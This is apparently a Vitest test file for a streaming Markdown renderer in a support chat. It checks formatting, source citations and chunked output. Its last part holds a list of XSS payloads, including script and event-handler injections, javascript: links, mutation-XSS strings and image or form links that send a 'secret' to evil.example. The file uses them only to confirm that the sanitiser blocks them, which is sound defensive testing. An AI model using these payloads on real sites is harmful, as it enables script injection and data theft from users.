import { describe, expect, it } from 'vitest';
import { createMarkdownWriter, type MarkdownWriterOptions } from './markdown-writer.ts';

const base = 'https://support.tetra.example/help';

function write(pieces: readonly string[], options: Partial<MarkdownWriterOptions> = {}): HTMLElement {
  const root = document.createElement('div');
  document.body.replaceChildren(root);
  const writer = createMarkdownWriter(root, { base, ...options });
  for (const piece of pieces) writer.write(piece);
  writer.end();
  return root;
}

const html = (markdown: string, options?: Partial<MarkdownWriterOptions>) =>
  write([markdown], options).innerHTML;
const link = (href: string, text: string) =>
  `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">${text}</a>`;

describe('an answer’s Markdown', () => {
  it.each([
    [
      'One **two** *three* `four` ~~five~~',
      '<p>One <strong>two</strong> <em>three</em> <code>four</code> <s>five</s></p>',
    ],
    ['# One\n\n#### Two\n', '<h3>One</h3><h4>Two</h4>'],
    ['- a\n- b\n  - c\n', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>'],
    ['3. a\n4. b\n', '<ol start="3"><li>a</li><li>b</li></ol>'],
    ['> quoted\n', '<blockquote><p>quoted</p></blockquote>'],
    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
    ['- [x] done\n- [ ] open\n', '<ul><li><span>☑</span> done</li><li><span>☐</span> open</li></ul>'],
    ['[docs](/docs/x#y)', `<p>${link('/docs/x#y', 'docs')}</p>`],
    [
      '[elsewhere](https://evil.example/a?b=c)',
      `<p>${link('https://evil.example/a?b=c', 'elsewhere<span class="chat-link-host"> (evil.example)</span>')}</p>`,
    ],
    ['https://example.com/a', `<p>${link('https://example.com/a', 'https://example.com/a')}</p>`],
  ])('%j becomes %s', (markdown, expected) => {
    expect(html(markdown)).toBe(expected);
  });

  it('shows code with a way to copy it and to scroll it by keyboard [U42]', () => {
    const root = write(['```ts\nlet a = "<b>";\n```\n']);
    const code = root.querySelector('pre');
    expect(code?.textContent).toBe('let a = "<b>";');
    expect(code?.tabIndex).toBe(0);
    expect(root.querySelector('button')?.dataset.copy).toBe('');
  });

  it('shows tables with their head', () => {
    const root = write(['| a | b |\n|---|---|\n| 1 | **2** |\n']);
    const cells = [...root.querySelectorAll('th, td')];
    expect(cells.map(({ tagName, textContent }) => `${tagName} ${textContent.trim()}`)).toEqual([
      'TH a',
      'TH b',
      'TD 1',
      'TD 2',
    ]);
  });

  it('is the same however it is cut into pieces', () => {
    const markdown =
      '# Limits\n\nSet **maxDuration** [1].\n\n- a `b`\n- [c](/docs/c)\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```js\na < b\n```\n\nhttps://example.com end';
    const whole = html(markdown);
    const letters = write([...markdown]).innerHTML;
    expect(letters).toBe(whole);
  });

  it('leaves the blocks that are finished alone', () => {
    const root = document.createElement('div');
    const writer = createMarkdownWriter(root, { base });
    writer.write('First.\n\nSecond.\n\nThird');
    const first = root.firstElementChild as Element;
    const changes: MutationRecord[] = [];
    const observer = new MutationObserver((records) => changes.push(...records));
    observer.observe(first, { subtree: true, childList: true, characterData: true, attributes: true });
    writer.write(' goes on.\n\nFourth');
    writer.end();
    changes.push(...observer.takeRecords());
    expect(root.firstElementChild).toBe(first);
    expect(changes).toEqual([]);
  });
});

describe('the number of a source', () => {
  const findSource = (number: number) =>
    number === 1 ? { href: '/docs/limits#max', label: 'Limits' } : undefined;

  it('opens the passage that it means', () => {
    const root = write(['Set it [1]. Not [2], not [3](/x) and not [note].'], { findSource });
    const citation = root.querySelector('.chat-citation');
    expect(citation?.getAttribute('href')).toBe('/docs/limits#max');
    expect(citation?.getAttribute('aria-label')).toBe('Source 1: Limits');
    expect(root.textContent).toBe('Set it 1. Not [2], not 3 and not [note].');
  });

  it('is found when the sources come after the words', () => {
    let known = false;
    const late = (number: number) => (known ? findSource(number) : undefined);
    const root = document.createElement('div');
    const writer = createMarkdownWriter(root, { base, findSource: late });
    writer.write('Set it [1].\n\n');
    expect(root.textContent).toBe('Set it [1].');
    known = true;
    writer.end();
    expect(root.textContent).toBe('Set it 1.');
  });
});

const payloads: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data="https://evil.example/x"></object>',
  '<video src="https://evil.example/x" onerror="hacked=1"></video>',
  '<a id="location" name="cookie" href="javascript:hacked=1">x</a>',
  '[x](javascript:window.hacked=1)',
  '[x](JaVaScRiPt:window.hacked=1)',
  '[x](java\tscript:window.hacked=1)',
  '[x]( javascript:window.hacked=1)',
  '[x](&#x6A;avascript:window.hacked=1)',
  '[x](data:text/html,<script>hacked=1</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/a)',
  '[x](/\\evil.example/a)',
  '[x](https://tetra.example@evil.example/)',
  '[x](javascript:window.hacked=1 "title")',
  '![x](https://evil.example/?d=secret)',
  '![x](javascript:window.hacked=1)',
  '[![x](https://evil.example/i.png)](https://evil.example/)',
  '![x][ref]\n\n[ref]: https://evil.example/?d=secret',
  '<https://evil.example/" onmouseover="hacked=1>',
  '<javascript:window.hacked=1>',
  '`</code><img src=x onerror=hacked=1>`',
  '```\n</code></pre><script>hacked=1</script>\n```',
  '```"><img src=x onerror=hacked=1>\nx\n```',
  '| <img src=x onerror=hacked=1> | b |\n|---|---|\n| [x](javascript:hacked=1) | 2 |',
  '- <svg/onload=hacked=1>\n  - [x](javascript:hacked=1)',
  '# <img src=x onerror=hacked=1>',
  '> <script>hacked=1</script>',
  '$$<img src=x onerror=hacked=1>$$',
  `${'> '.repeat(500)}<img src=x onerror=hacked=1>`,
  `${'- '.repeat(500)}[x](javascript:hacked=1)`,
  '\u0000<img src=x onerror=hacked=1>\u202e',
];

const allowedElements = new Set(
  'a blockquote br button code div em h3 h4 hr li ol p pre s span strong table tbody td th tr ul'.split(' '),
);
const allowedAttributes = new Set(
  'aria-label class data-copy href rel role scope start tabindex target title type data-citation'.split(' '),
);

/** What stands in an element that our renderer never writes. */
function strangers(root: HTMLElement): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const attributes = element.getAttributeNames().filter((name) => !allowedAttributes.has(name));
    const href = element.getAttribute('href') ?? '/';
    const isLinkAllowed = /^(?:\/(?![/\\])|https?:\/\/|mailto:)/.test(href);
    return [
      ...(allowedElements.has(tag) ? [] : [tag]),
      ...attributes.map((name) => `${tag}[${name}]`),
      ...(isLinkAllowed ? [] : [href]),
    ];
  });
}

describe('hostile Markdown', () => {
  it.each(payloads)(
    'brings in nothing but text and known elements, at every prefix: %j [A32, A33, A47]',
    (payload) => {
      const root = document.createElement('div');
      document.body.replaceChildren(root);
      const writer = createMarkdownWriter(root, { base });
      const found = [...payload].flatMap((letter) => {
        writer.write(letter);
        return strangers(root);
      });
      writer.end();
      expect([...found, ...strangers(root)]).toEqual([]);
      expect('hacked' in window).toBe(false);
      const elsewhere = performance
        .getEntriesByType('resource')
        .filter(({ name }) => name.includes('evil.example'));
      expect(elsewhere).toEqual([]);
    },
  );
});
